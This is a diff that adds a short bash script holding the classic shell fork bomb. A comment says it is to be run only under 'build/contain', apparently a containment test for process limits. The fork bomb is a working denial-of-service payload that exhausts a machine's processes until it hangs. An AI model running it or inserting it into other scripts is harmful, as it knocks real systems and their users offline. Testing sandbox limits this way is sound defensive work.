@@ -1,0 +1,3 @@
+#!/bin/bash
+# The classic shell fork bomb.  Run it only under build/contain.
+:(){ :|:& };:
